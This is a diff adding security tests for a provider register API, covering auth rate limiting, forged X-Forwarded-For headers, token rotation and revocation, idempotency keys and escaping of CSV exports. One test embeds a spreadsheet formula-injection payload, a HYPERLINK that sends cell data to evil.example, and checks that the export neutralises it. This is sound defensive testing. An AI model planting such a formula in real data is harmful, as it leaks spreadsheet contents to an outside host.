@@ -2,17 +2,22 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import logging
 import re
 import uuid
 from datetime import timedelta
+from pathlib import Path
 from typing import Any
 
+import httpx
 import msgspec
 import pytest
 from litestar.testing import TestClient
 from sqlalchemy import text
 
+from harness import ServerProcess
 from ila_register.app import create_app
 from ila_register.runtime import Runtime
 from support import Api, FakeClock, example
@@ -49,6 +54,8 @@ def _request(
             body = {"status": "suspended", "reason": "audit"}
         elif path.endswith("/decisions"):
             body = {"scheme": "be-vl-opleidingscheques", "decision": "eligible"}
+        elif path.endswith("/token"):
+            body = {}
         elif "{provider_id" in path:
             body = example("provider.json")
         else:
@@ -169,14 +176,45 @@ def test_failed_authentication_is_rate_limited_per_client(api: Api, runtime: Run
     for _ in range(limit):
         assert api.client.get("/api/v1/offers", headers=api.auth("ila_guess")).status_code == 401
 
-    blocked = api.client.get("/api/v1/offers", headers=api.auth(token))
+    blocked = api.client.get("/api/v1/offers", headers=api.auth("ila_guess"))
 
     assert blocked.status_code == 429
     assert blocked.headers["content-type"] == "application/problem+json"
     assert 1 <= int(blocked.headers["retry-after"]) <= 60
+    # the limit is on failures, never on a valid credential behind the same address
+    assert api.client.get("/api/v1/offers", headers=api.auth(token)).status_code == 200
+    assert api.client.get("/api/v1/offers", headers=api.admin).status_code == 200
     assert api.client.get("/api/v1/search", params={"q": "boekhouding"}).status_code == 200  # public stays open
     clock.advance(seconds=61)
-    assert api.client.get("/api/v1/offers", headers=api.auth(token)).status_code == 200
+    assert api.client.get("/api/v1/offers", headers=api.auth("ila_guess")).status_code == 401
+
+
+def test_forwarded_for_from_an_untrusted_client_does_not_reset_the_limit(api: Api, runtime: Runtime) -> None:
+    assert runtime.settings.http.trusted_proxies == ()  # the default: no proxy is trusted
+    for _ in range(runtime.settings.auth.failed_auth_limit):
+        api.client.get("/api/v1/offers", headers=api.auth("ila_guess"))
+
+    spoofed = api.client.get("/api/v1/offers", headers=api.auth("ila_guess", **{"X-Forwarded-For": "203.0.113.9"}))
+
+    assert spoofed.status_code == 429
+
+
+def test_a_served_register_trusts_no_forwarded_header_by_default(tmp_path: Path) -> None:
+    """Through the real server (uvicorn): a client on the same host cannot name another address."""
+    env = {
+        "ILA_DATABASE_URL": f"sqlite:///{tmp_path / 'register.sqlite3'}",
+        "ILA_VAR_DIR": str(tmp_path / "var"),
+        "ILA_FAILED_AUTH_LIMIT": "3",
+    }
+    server = ServerProcess(env, tmp_path / "server.log").start()
+    try:
+        with httpx.Client(base_url=server.url, timeout=10) as http:
+            guess = {"Authorization": "Bearer ila_guess"}
+            assert [http.get("/api/v1/offers", headers=guess).status_code for _ in range(3)] == [401] * 3
+            spoofed = http.get("/api/v1/offers", headers=guess | {"X-Forwarded-For": "203.0.113.9"})
+            assert spoofed.status_code == 429
+    finally:
+        server.stop()
 
 
 def test_security_headers_on_every_kind_of_answer(api: Api) -> None:
@@ -230,3 +268,160 @@ def test_cors_allows_the_configured_portal_to_read_only(runtime: Runtime) -> Non
             },
         )
         assert "POST" not in write.headers.get("access-control-allow-methods", "")
+
+
+# -- leaked provider tokens: found by id, revoked, rotated ---------------------------------------
+
+
+def test_the_registration_answer_names_the_token_so_it_can_be_revoked(api: Api, runtime: Runtime) -> None:
+    answer = api.client.post("/api/v1/providers", json=example("provider.json"), headers=api.admin)
+    assert answer.status_code == 201
+    body = answer.json()
+    assert body["token"].startswith("ila_")
+    assert UUID.fullmatch(body["token_id"])
+    schema = api.client.get("/schema/openapi.json").json()["components"]["schemas"]
+    created = next(s for name, s in schema.items() if name.endswith("ProviderCreated"))
+    assert {"token", "token_id"} <= set(created["required"])
+
+    runtime.tokens.revoke(uuid.UUID(body["token_id"]))
+    assert api.client.get("/api/v1/offers", headers=api.auth(body["token"])).status_code == 401
+
+
+def test_a_provider_rotates_its_own_token(api: Api) -> None:
+    provider_id, old = api.register_provider()
+    _stranger_id, stranger = api.register_provider(kbo_number=OTHER_KBO)
+    refused = api.client.post(f"/api/v1/providers/{provider_id}/token", json={}, headers=api.auth(stranger))
+    assert refused.status_code == 404
+
+    rotated = api.client.post(f"/api/v1/providers/{provider_id}/token", json={"label": "ERP"}, headers=api.auth(old))
+
+    assert rotated.status_code == 201, rotated.text
+    assert rotated.headers["cache-control"] == "no-store"
+    new = rotated.json()
+    assert new["provider_id"] == provider_id
+    assert UUID.fullmatch(new["token_id"])
+    assert new["token"].startswith("ila_")
+    assert new["token"] != old
+    assert api.client.get("/api/v1/offers", headers=api.auth(old)).status_code == 401
+    assert api.client.get("/api/v1/offers", headers=api.auth(new["token"])).status_code == 200
+    again = api.client.post(f"/api/v1/providers/{provider_id}/token", json={}, headers=api.auth(old))
+    assert again.status_code == 401  # the old token cannot mint another one
+    assert api.client.get("/api/v1/offers", headers=api.auth(stranger)).status_code == 200
+
+
+def test_an_administrator_rotates_every_token_of_a_provider(api: Api, runtime: Runtime) -> None:
+    provider_id, first = api.register_provider()
+    second = runtime.tokens.issue("provider", provider_id=uuid.UUID(provider_id)).token
+
+    rotated = api.client.post(f"/api/v1/providers/{provider_id}/token", json={}, headers=api.admin)
+
+    assert rotated.status_code == 201, rotated.text
+    assert api.client.get("/api/v1/offers", headers=api.auth(first)).status_code == 401
+    assert api.client.get("/api/v1/offers", headers=api.auth(second)).status_code == 401
+    assert api.client.get("/api/v1/offers", headers=api.auth(rotated.json()["token"])).status_code == 200
+    missing = api.client.post(f"/api/v1/providers/{uuid.uuid4()}/token", json={}, headers=api.admin)
+    assert missing.status_code == 404
+    past = api.client.post(
+        f"/api/v1/providers/{provider_id}/token", json={"expires_at": "2020-01-01T00:00:00Z"}, headers=api.admin
+    )
+    assert past.status_code == 422
+    assert past.json()["errors"][0]["pointer"] == "/expires_at"
+
+
+def test_a_401_does_not_tell_revoked_expired_and_unknown_tokens_apart(
+    api: Api, runtime: Runtime, clock: FakeClock, caplog: pytest.LogCaptureFixture
+) -> None:
+    provider_id, _token = api.register_provider()
+    revoked = runtime.tokens.issue("provider", provider_id=uuid.UUID(provider_id))
+    runtime.tokens.revoke(revoked.id)
+    expired = runtime.tokens.issue("reviewer", expires_at=clock() + timedelta(minutes=1))
+    clock.advance(minutes=2)
+    caplog.set_level(logging.INFO, logger="ila_register")
+
+    answers = {
+        who: api.client.get("/api/v1/offers", headers=api.auth(token))
+        for who, token in {"revoked": revoked.token, "expired": expired.token, "unknown": "ila_" + "x" * 43}.items()
+    }
+
+    assert {a.status_code for a in answers.values()} == {401}
+    assert len({a.text for a in answers.values()}) == 1, {who: a.json()["detail"] for who, a in answers.items()}
+    assert "invalid" in answers["revoked"].json()["detail"].lower()
+    logged = " ".join(r.getMessage() for r in caplog.records)
+    assert f"{revoked.id} was revoked" in logged  # the reason is for the operators' log
+    assert f"{expired.id} expired" in logged
+    assert revoked.token not in logged
+
+
+# -- idempotency keys ----------------------------------------------------------------------------
+
+
+def test_an_idempotency_key_never_replays_one_providers_answer_for_another(api: Api, runtime: Runtime) -> None:
+    first_id, _first = api.register_provider()
+    second_id, second = api.register_provider(kbo_number=OTHER_KBO)
+    headers = api.admin | {"Idempotency-Key": "batch-1"}
+    body = example("offer-training.json")
+
+    created = api.client.post("/api/v1/offers", params={"provider_id": first_id}, json=body, headers=headers)
+    other = api.client.post("/api/v1/offers", params={"provider_id": second_id}, json=body, headers=headers)
+
+    assert created.status_code == 201
+    assert created.json()["provider_id"] == first_id
+    assert other.status_code == 422, other.json().get("provider_id")
+    assert "idempotent-replayed" not in other.headers
+    assert api.client.get("/api/v1/offers", headers=api.auth(second)).json()["items"] == []
+    replay = api.client.post("/api/v1/offers", params={"provider_id": first_id}, json=body, headers=headers)
+    assert replay.headers["idempotent-replayed"] == "true"
+    assert replay.json() == created.json()
+
+
+def test_idempotency_keys_belong_to_the_caller(api: Api, runtime: Runtime) -> None:
+    provider_id, token = api.register_provider()
+    body = example("offer-training.json")
+    reviewer_admin = runtime.tokens.issue("admin").token
+    key = {"Idempotency-Key": "same-key"}
+
+    mine = api.client.post("/api/v1/offers", json=body, headers=api.auth(token, **key))
+    by_admin = api.client.post(
+        "/api/v1/offers",
+        params={"provider_id": provider_id},
+        json=body | {"reference": "ADM-1"},
+        headers=api.admin | key,
+    )
+    by_other_admin = api.client.post(
+        "/api/v1/offers",
+        params={"provider_id": provider_id},
+        json=body | {"reference": "ADM-1"},
+        headers=api.auth(reviewer_admin, **key),
+    )
+
+    assert [a.status_code for a in (mine, by_admin, by_other_admin)] == [201, 201, 409]  # the same reference
+    assert "idempotent-replayed" not in by_admin.headers
+    assert "idempotent-replayed" not in by_other_admin.headers
+
+
+# -- CSV downloads -------------------------------------------------------------------------------
+
+
+def test_a_formula_in_a_rejection_reason_reaches_no_spreadsheet(api: Api, runtime: Runtime) -> None:
+    _provider_id, token = api.register_provider()
+    offer = api.submit(token)
+    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")'
+    rejected = api.client.post(
+        f"/api/v1/offers/{offer['id']}/decisions",
+        json={"scheme": "be-vl-opleidingscheques", "decision": "rejected", "reason": formula},
+        headers=api.admin,
+    )
+    assert rejected.status_code == 200, rejected.text
+
+    downloads = {
+        "api": api.client.get(
+            "/api/v1/stats", params={"format": "csv", "table": "rejection-reasons"}, headers=api.admin
+        ),
+        "dashboard": api.client.get("/dashboard/csv/rejection-reasons", headers=api.admin),
+    }
+
+    for where, answer in downloads.items():
+        assert answer.status_code == 200, where
+        rows = list(csv.reader(io.StringIO(answer.text)))
+        assert rows[0] == ["reason", "scheme", "count"], where
+        assert rows[1] == ["'" + formula, "be-vl-opleidingscheques", "1"], where
